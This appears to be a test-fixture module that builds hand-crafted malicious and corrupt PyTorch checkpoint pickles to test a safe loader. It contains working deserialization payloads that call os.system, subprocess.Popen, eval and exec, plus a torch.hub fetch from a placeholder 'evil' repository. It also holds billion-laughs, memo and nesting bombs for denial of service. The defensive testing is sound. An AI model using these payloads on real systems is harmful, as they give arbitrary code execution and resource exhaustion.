"""Makers of malicious and damaged checkpoints. Files are made when a test runs; none is kept.

Pickles are put together by hand, opcode by opcode, since `pickle` itself would not write most of them.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path

import torch

PROTO2 = b"\x80\x02"
NESTING = 60_000


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


def number(value: int) -> bytes:
    raw = value.to_bytes(max(1, value.bit_length() // 8 + 1), "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def numbers(*values: int) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    """GLOBAL and REDUCE."""
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def in_dict(value: bytes) -> bytes:
    """A whole pickle: what a checkpoint looks like, with `value` for its model."""
    return PROTO2 + b"}" + text("model") + value + b"s."


def storage(kind: str = "FloatStorage", key: str = "0", elements: int = 4) -> bytes:
    """The persistent id of a storage in a zip file."""
    return b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + number(elements) + b"tQ"


def tensor(source: bytes, offset: int, shape: bytes, stride: bytes) -> bytes:
    hooks = call("collections", "OrderedDict")
    return call("torch._utils", "_rebuild_tensor_v2", source, number(offset), shape, stride, b"\x89", hooks)


def write_zip(
    path: Path, pickled: bytes, records: dict[str, bytes] | None = None, folder: str = "archive"
) -> None:
    """A file as torch lays it out; by default with one storage, "0", of four floats."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{folder}/data.pkl", pickled)
        for key, content in ({"0": struct.pack("<4f", 1, 2, 3, 4)} if records is None else records).items():
            archive.writestr(f"{folder}/data/{key}", content)
        archive.writestr(f"{folder}/version", b"3\n")


def write_legacy(
    path: Path, pickled: bytes, about: bytes = PROTO2 + b"}.", keys: bytes = PROTO2 + b"]."
) -> None:
    """A file as torch laid it out before version 1.6, without storages."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    path.write_bytes(head + about + pickled + keys)


def saved(value: object, **options: object) -> bytes:
    """What torch.save writes."""
    buffer = io.BytesIO()
    torch.save(value, buffer, **options)
    return buffer.getvalue()


def unsafe_pickles(marker: Path) -> dict[str, tuple[bytes, str]]:
    """Pickles that would run something, mostly `touch marker`, and what the error has to name."""
    shell = text(f"touch {marker}")
    python = text(f"open({str(marker)!r}, 'w').close()")
    system = name("posix", "system") + b"(" + shell + b"t"
    inner = PROTO2 + call("posix", "system", shell) + b"."
    nested = b"B" + struct.pack("<I", len(inner)) + inner
    network = name("models.common", "Conv")
    made = network + b")\x81"
    laughs = doubling(b")", b"h%ch%c\x86")
    values = {
        "reduce": (system + b"R", "posix.system"),
        "reduce os": (call("os", "system", shell), "os.system"),
        "reduce python 2": (call("commands", "getoutput", shell), "commands.getoutput"),
        "eval": (call("builtins", "eval", python), "builtins.eval"),
        "eval python 2": (call("__builtin__", "eval", python), "__builtin__.eval"),
        "exec": (call("builtins", "exec", python), "builtins.exec"),
        "import": (call("builtins", "__import__", text("os")), "builtins.__import__"),
        "stack global": (stack_name("posix", "system") + b"(" + shell + b"tR", "posix.system"),
        "dotted name": (stack_name("os", "path.os.system") + b"(" + shell + b"tR", "os.path.os.system"),
        "dotted network": (
            stack_name("models.common", "Conv.__init__.__globals__") + b")R",
            "models.common.Conv.__init__.__globals__",
        ),
        "getattr of a module": (
            call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system")),
            "builtins.__import__",
        ),
        "getattr of a type": (
            call("builtins", "getattr", name("builtins", "object"), text("__subclasses__")),
            "builtins.getattr",
        ),
        "getattr of a dunder": (
            call("builtins", "getattr", network, text("__globals__")),
            "builtins.getattr",
        ),
        "getattr called": (call("builtins", "getattr", network, text("forward")) + b")R", "Conv.forward"),
        "getattr of a getattr": (
            call("builtins", "getattr", call("builtins", "getattr", network, text("a")), text("b")),
            "builtins.getattr",
        ),
        "inst": (b"(" + shell + b"iposix\nsystem\n", "posix.system"),
        "obj": (b"(" + network + shell + b"o", "models.common.Conv"),
        "obj system": (b"(" + name("posix", "system") + shell + b"o", "posix.system"),
        "newobj": (name("subprocess", "Popen") + b"(" + shell + b"t\x81", "subprocess.Popen"),
        "newobj ex": (name("subprocess", "Popen") + b"(" + shell + b"t}\x92", "subprocess.Popen"),
        "newobj mentioned": (name("builtins", "object") + b")\x81", "builtins.object"),
        "newobj of an object": (made + b")\x81", "models.common.Conv"),
        "build a class": (network + b"}" + text("__setstate__") + name("models.common", "x") + b"sb", "Conv"),
        "build setstate": (
            made + b"}" + text("__setstate__") + name("posix", "system") + b"sb" + shell + b"b",
            "posix.system",
        ),
        "extension": (b"\x82\x01", "extension 1"),
        "nested pickle": (call("_pickle", "loads", nested), "_pickle.loads"),
        "nested torch": (call("torch.storage", "_load_from_bytes", nested), "torch.storage._load_from_bytes"),
        "torch load": (call("torch", "load", text(str(marker))), "torch.load"),
        "torch hub": (call("torch.hub", "load", text("evil/evil"), text("evil")), "torch.hub.load"),
        "torch jit": (call("torch.jit", "load", text(str(marker))), "torch.jit.load"),
        "torch compiler": (
            call("torch.utils.cpp_extension", "load", shell),
            "torch.utils.cpp_extension.load",
        ),
        "torch nn function": (call("torch.nn.functional", "relu", shell), "torch.nn.functional.relu"),
        "torch nn called": (call("torch.nn.modules.module", "Module"), "torch.nn.modules.module.Module"),
        "numpy": (call("numpy.testing._private.utils", "runstring", python, b"}"), "runstring"),
        "numpy load": (call("numpy", "load", text(str(marker)), b"N", b"\x88"), "numpy.load"),
        "foreign function": (call("evil_package.run", "now", shell), "evil_package.run.now"),
        "foreign class": (call("models.common", "Conv", shell), "models.common.Conv"),
        "rebuild by": (
            call("torch._tensor", "_rebuild_from_type_v2", name("evil", "now"), network, b")", b"N"),
            "evil.now",
        ),
        "laughs called": (laughs + b")R", "a tuple of length 2"),
        "laughs rebuilt": (
            call("torch._tensor", "_rebuild_from_type_v2", laughs, b"N", b")", b"N"),
            "a tuple",
        ),
        "laughs for a base": (
            call("copyreg", "_reconstructor", network, laughs, b"N"),
            "a tuple of length 2",
        ),
        "laughs as a codec": (call("_codecs", "encode", shell, laughs), "a tuple of length 2"),
        "importlib": (call("importlib", "import_module", text("antigravity")), "importlib.import_module"),
        "runpy": (call("runpy", "run_path", shell), "runpy.run_path"),
        "operator": (call("operator", "attrgetter", text("system")), "operator.attrgetter"),
        "partial": (call("functools", "partial", network), "functools.partial"),
        "code": (call("types", "FunctionType"), "types.FunctionType"),
        "socket": (call("socket", "create_connection"), "socket.create_connection"),
        "thrown away": (system + b"R0N", "posix.system"),
        "default factory": (call("collections", "defaultdict", name("os", "getcwd")), "os.getcwd"),
        "codec": (call("_codecs", "encode", shell, text("rot13")), "rot13"),
        "registry": (
            call("copyreg", "add_extension", text("os"), text("system"), number(1)),
            "copyreg.add_ext",
        ),
        "reconstructor": (
            call("copyreg", "_reconstructor", network, name("builtins", "type"), b"N"),
            "builtins.type",
        ),
        "control characters": (name("os\x1b[2J", "system"), "\\x1b[2J"),
        "call of nothing": (b"N)R", "None"),
    }
    return {kind: (in_dict(value), symbol) for kind, (value, symbol) in values.items()}


def often(item: bytes, count: int) -> bytes:
    """A list of as many."""
    return b"(" + item * count + b"l"


def doubling(empty: bytes, pair: bytes) -> bytes:
    """A billion billion laughs: the pair of the pair of ... the empty one with itself."""
    return empty + b"q\0" + b"".join(b"0" + pair % (i, i) + b"q" + bytes([i + 1]) for i in range(60))


def damaged_pickles() -> dict[str, bytes]:
    """Pickles that make no sense, or that want more than their due."""
    huge = 2**40
    one = numbers(1)
    view = storage()
    tuples = doubling(b")", b"h%ch%c\x86")
    float64 = call("numpy", "dtype", text("f8"), b"\x89", b"\x88")
    array = call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), b"K\0\x85", b"C\x01b")
    odd_storage = b"(" + text("storage") + name("models.common", "Conv") + text("0") + text("cpu") + b"K\4tQ"
    rebuild_again = (
        tensor(view + b"q\1", 0, one, one)
        + b"0ctorch._utils\n_rebuild_tensor\nq\3"
        + b"(h\1K\0"
        + 2 * b"K\1\x85"
        + b"tq\4"
    )
    values = {
        "storage far too large": tensor(storage(elements=huge), 0, numbers(4), one),
        "storage too large": tensor(storage(elements=5), 0, numbers(4), one),
        "storage too small": tensor(storage(elements=3), 0, numbers(3), one),
        "storage of less than nothing": tensor(storage(elements=-4), 0, numbers(4), one),
        "storage missing": tensor(storage(key="1"), 0, numbers(4), one),
        "storage outside": tensor(storage(key="../version"), 0, numbers(4), one),
        "storage of unknown kind": tensor(odd_storage, 0, numbers(4), one),
        "storage of two kinds": b"(" + storage() + storage("IntStorage") + b"l",
        "storage of odd truths": tensor(storage("BoolStorage", elements=16), 0, numbers(4), one),
        "storage by a number": number(7) + b"Q",
        "storage by text": b"P0\n",
        "shape too large": tensor(view, 0, numbers(5), one),
        "shape absurd": tensor(view, 0, numbers(huge, huge, huge), numbers(1, 1, 1)),
        "shape overflows": tensor(view, 0, numbers(2**32, 2**32), numbers(0, 0)),
        "shape overflows though empty": tensor(view, 0, numbers(0, 2**62, 2**62), numbers(1, 1, 1)),
        "shape negative": tensor(view, 0, numbers(-4), one),
        "shape beyond integers": tensor(view, 0, numbers(2**64), one),
        "shape of too many": tensor(view, 0, numbers(*[1] * 100), numbers(*[1] * 100)),
        "shape of text": tensor(view, 0, b"(" + text("4") + b"t", one),
        "stride too large": tensor(view, 0, numbers(2, 2), numbers(huge, 1)),
        "stride negative": tensor(view, 3, numbers(4), numbers(-1)),
        "stride too short": tensor(view, 0, numbers(2, 2), one),
        "offset too large": tensor(view, 1, numbers(4), one),
        "offset negative": tensor(view, -1, numbers(4), one),
        "expanded without end": tensor(view, 0, numbers(2**20, 2**20), numbers(0, 0)),
        "expanded often": often(tensor(view, 0, numbers(2**20), numbers(0)), 100),
        "tensor of nothing": call("torch._utils", "_rebuild_tensor_v2"),
        "tensor of text": tensor(text("x"), 0, numbers(4), one),
        "deep lists": NESTING * b"]" + (NESTING - 1) * b"a",
        "deep tuples": b")" + NESTING * b"\x85",
        "deep dicts": NESTING * (b"}" + text("a")) + b"N" + NESTING * b"s",
        "deep objects": b"N" + NESTING * b"q\x010cm\nC\n)\x81h\1b",
        "deep key": b"}" + b")" + NESTING * b"\x85" + b"Ns",
        "wide key": b"}" + tuples + b"Ns",
        "laughs in lists": doubling(b"]", b"(h%ch%cl"),
        "laughs in tuples": tuples,
        "laughs in sets": b"\x8f(" + tuples + b"\x90",
        "list in itself": b"]q\1h\1a",
        "dict in itself": b"}q\1" + text("a") + b"h\1s",
        "tuple in itself": b"]q\1h\1\x85a",
        "unhashable": b"}]Ns",
        "memo bomb": b"N" + b"".join(b"r" + struct.pack("<I", 4 * i) for i in range(900_000)),
        "mark bomb": 900_000 * b"(",
        "duplicates": b"(N" + 4_300_000 * b"2" + b"l",
        "set bomb": often(b"\x8f", 450_000),
        "dict bomb": often(b"}NNs", 200_000),
        "list bomb": often(b"]Na", 350_000),
        "object bomb": b"cm\nC\nq\1" + often(b"h\1)\x81}b", 200_000),
        "tensor bomb": rebuild_again + often(b"h\3h\4R", 80_000),
        "colliding keys": b"}(" + b"".join(numbers(i, 2**61 - 1 - i) + b"N" for i in range(60_000)) + b"u",
        "copies of text": text("x" * 2**20)
        + b"q\1"
        + often(call("_codecs", "encode", b"h\1", text("latin1")), 5000),
        "copies of a set": b"("
        + b"".join(map(number, range(50_000)))
        + b"lq\1"
        + often(call("builtins", "set", b"h\1"), 5000),
        "copies of nothing": b"("
        + 300_000 * b"X\0\0\0\0"
        + b"tq\1"
        + b"0cpathlib\nPosixPath\nq\2"
        + often(b"h\2h\1R", 50_000),
        "colliding members": call(
            "builtins", "set", b"(" + b"".join(numbers(i, -i) for i in range(100)) + b"l"
        ),
        "laughs for a storage": b"(" + text("storage") + tuples + text("0") + text("cpu") + b"K\4tQ",
        "laughs for a key": b"("
        + text("storage")
        + name("torch", "FloatStorage")
        + tuples
        + text("cpu")
        + b"K\4tQ",
        "laughs for a number": b"("
        + text("storage")
        + name("torch", "FloatStorage")
        + text("0")
        + text("cpu")
        + tuples
        + b"tQ",
        "laughs for a shape": tensor(view, 0, tuples, one),
        "laughs for a type": call("numpy", "dtype", tuples),
        "copies of a path": text("x" * 4000) + b"q\1" + often(call("pathlib", "PosixPath", b"h\1"), 100_000),
        "wide text": text("x" * 40_000_000 + "\U0001f600"),
        "long4 bomb": b"\x8b" + struct.pack("<i", 2**31 - 1) + b"\xff" * 1000,
        "long4 negative": b"\x8b" + struct.pack("<i", -1),
        "long integer": b"\x8b" + struct.pack("<i", 1_000_000) + b"\xff" * 1_000_000,
        "long digits": b"L" + b"9" * 1_000_000 + b"L\n",
        "text longer than the file": b"X" + struct.pack("<I", 2**32 - 1) + b"x",
        "bytes longer than the file": b"\x8e" + struct.pack("<Q", 2**62) + b"x",
        "frame longer than the file": b"\x95" + struct.pack("<Q", 2**62) + b"N",
        "buffer outside": b"\x97",
        "line without end": b"cposix",
        "text that is none": b"X" + struct.pack("<I", 2) + b"\xff\xfe",
        "memo of nothing": b"h\7",
        "stack of nothing": b"0000",
        "unknown opcode": b"\xff",
        "appended to a number": b"K\1Na",
        "numpy of objects": call("numpy", "dtype", text("O8"), b"\x89", b"\x88"),
        "numpy too short": array + b"(K\1" + numbers(huge) + float64 + b"\x89C\x08" + 8 * b"\0" + b"tb",
        "built twice": b"cm\nC\n)\x81}b}b",
        "built of nothing": b"K\1}b",
    }
    return {kind: in_dict(value) for kind, value in values.items()} | {
        "protocol of the future": b"\x80\x09}.",
        "two values": PROTO2 + b"}}.",
        "no value": PROTO2 + b".",
        "no end": PROTO2 + b"}",
        "nothing": b"",
        "open mark": PROTO2 + b"}(.",
        "a number at the top": PROTO2 + b"K\7.",
        "text at the top": PROTO2 + text("weights") + b".",
        "a list at the top": PROTO2 + b"].",
        "a storage at the top": PROTO2 + storage() + b".",
        "a tensor at the top": PROTO2 + tensor(storage(), 0, numbers(4), one) + b".",
    }


GOOD_PICKLE = in_dict(tensor(storage(), 0, numbers(2, 2), numbers(2, 1)))
